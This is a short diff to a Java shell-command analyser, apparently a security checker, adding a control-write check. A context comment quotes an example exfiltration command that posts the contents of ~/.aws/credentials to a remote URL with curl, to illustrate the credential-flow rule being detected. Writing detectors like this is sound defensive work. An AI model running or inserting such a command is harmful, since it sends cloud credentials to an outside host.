@@ -105,6 +105,7 @@ final class SimpleCommands {
         RowsToFile.target(s, walk).ifPresent(file -> RowsToFile.mark(walk.operations, dispatched, file));
         SealedOutputs.redirections(walk.operations, redirected, afterRedirects,
                 walk.operations.subList(Math.min(dispatched, walk.operations.size()), walk.operations.size()));
+        ControlWrites.check(walk, redirected);
         if (!substituted.isEmpty()) {
             // curl -d "$(cat ~/.aws/credentials)" https://…: a secret read for an argument of a network command leaves with it.
             Flows.carried(s, substituted, walk).filter(c -> c.type().equals("credentials")).ifPresent(cargo ->
